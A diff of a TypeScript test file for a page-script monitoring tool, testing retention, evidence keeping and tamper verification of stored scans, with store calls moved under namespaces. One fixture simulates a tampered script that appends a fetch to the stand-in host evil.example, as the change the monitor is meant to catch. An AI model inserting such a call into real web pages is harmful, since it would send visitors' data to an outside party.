@@ -13,12 +13,12 @@ import { rawDb } from '../fixtures/raw-db.js';
 function history(): { store: Store; alertScan: number } {
   const store = openStore(join(tempProject('sw-retain-'), 'sw.db'));
   const scan = (capture = healthyShop(), evidence?: { name: string; bytes: Buffer }[]) => {
-    const plan = planScan(capture, store.readBaseline(capture.target, capture.profile), { removalThreshold: 2 });
+    const plan = planScan(capture, store.scans.readBaseline(capture.target, capture.profile), { removalThreshold: 2 });
     if (evidence) plan.evidence = evidence;
-    return store.applyPlan(plan);
+    return store.scans.applyPlan(plan);
   };
   scan();
-  store.approveAll({ by: 'alice', note: 'baseline', at: '2026-11-22T09:00:00.000Z' });
+  store.alerts.approveAll({ by: 'alice', note: 'baseline', at: '2026-11-22T09:00:00.000Z' });
   for (let i = 0; i < 5; i++) scan();
   const changed = scan(pageCapture([script({ kind: 'external', url: APP.url, body: `${APP.body}\nfetch("https://evil.example/c")` }), LIB, INLINE_A, INLINE_B]),
     [{ name: 'screenshot.png', bytes: Buffer.from('\x89PNG fake') }]);
@@ -33,7 +33,7 @@ describe('retention', () => {
     const { store, alertScan } = history();
     const before = count(store, 'SELECT COUNT(*) AS n FROM observations');
     const perScan = count(store, 'SELECT COUNT(*) AS n FROM observations WHERE scan_id = 1');
-    const report = store.retain('2999-01-01T00:00:00.000Z');
+    const report = store.scans.retain('2999-01-01T00:00:00.000Z');
     const afterCount = count(store, 'SELECT COUNT(*) AS n FROM observations');
     assert.ok(report.observationsRemoved > 0 && afterCount === before - report.observationsRemoved);
     assert.equal(count(store, 'SELECT COUNT(*) AS n FROM observations WHERE scan_id = 1'), perScan, 'first sightings are kept');
@@ -42,20 +42,20 @@ describe('retention', () => {
     assert.equal(count(store, 'SELECT COUNT(*) AS n FROM observations WHERE scan_id = 3'), 0, 'repeats in between are gone');
     assert.equal(count(store, 'SELECT COUNT(*) AS n FROM evidence WHERE scan_id = ?', alertScan), 1, 'evidence is never pruned');
     assert.equal(count(store, "SELECT COUNT(*) AS n FROM baseline WHERE state = 'approved'") > 0, true, 'baselines stay');
-    assert.equal(store.listAlerts({ status: 'all' }).length, 1);
-    const report2 = store.verify();
+    assert.equal(store.alerts.list({ status: 'all' }).length, 1);
+    const report2 = store.scans.verify();
     assert.equal(report2.ok, true, JSON.stringify(report2.firstBreak));
-    assert.equal(store.retain('2999-01-01T00:00:00.000Z').scans, 0, 'a pruned scan is not pruned twice');
+    assert.equal(store.scans.retain('2999-01-01T00:00:00.000Z').scans, 0, 'a pruned scan is not pruned twice');
 
     rawDb(store).prepare('UPDATE scans SET observations_digest = ? WHERE id = 3').run('0'.repeat(64));
-    assert.match(store.verify().firstBreak?.reason ?? '', /^scan #3 .* does not match its hash/);
+    assert.match(store.scans.verify().firstBreak?.reason ?? '', /^scan #3 .* does not match its hash/);
     store.close();
   });
 
   it('keeps everything newer than the cutoff', () => {
     const { store } = history();
     const before = count(store, 'SELECT COUNT(*) AS n FROM observations');
-    assert.deepEqual(store.retain('2000-01-01T00:00:00.000Z'), { scans: 0, observationsRemoved: 0 });
+    assert.deepEqual(store.scans.retain('2000-01-01T00:00:00.000Z'), { scans: 0, observationsRemoved: 0 });
     assert.equal(count(store, 'SELECT COUNT(*) AS n FROM observations'), before);
     store.close();
   });
